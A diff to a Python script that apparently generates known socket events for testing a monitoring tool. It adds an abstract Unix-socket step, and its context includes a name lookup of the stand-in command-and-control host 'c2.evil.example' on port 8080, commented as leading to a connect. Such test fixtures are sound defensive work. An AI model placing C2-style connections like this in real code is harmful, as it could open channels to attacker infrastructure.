@@ -94,6 +94,16 @@ unix.send(b'hi')
 child.wait()
 say(step='unix', fd=unix.fileno(), server_pid=child.pid, client_pid=os.getpid(), path=path)
 
+# An abstract Unix name (Linux): no file, a leading NUL.
+abstract = socket.socket(socket.AF_UNIX)
+abstract.bind('\0rg-truth-abstract')
+abstract.listen(1)
+abstract_client = socket.socket(socket.AF_UNIX)
+abstract_client.connect('\0rg-truth-abstract')
+say(step='unix_abstract', fd=abstract_client.fileno(), name='rg-truth-abstract')
+abstract_client.close()
+abstract.close()
+
 # Name resolution through glibc (A and AAAA at once, sendmmsg), then a connect to the answer.
 infos = socket.getaddrinfo('c2.evil.example', 8080, proto=socket.IPPROTO_TCP)
 say(step='resolved', addrs=sorted({i[4][0] for i in infos}))
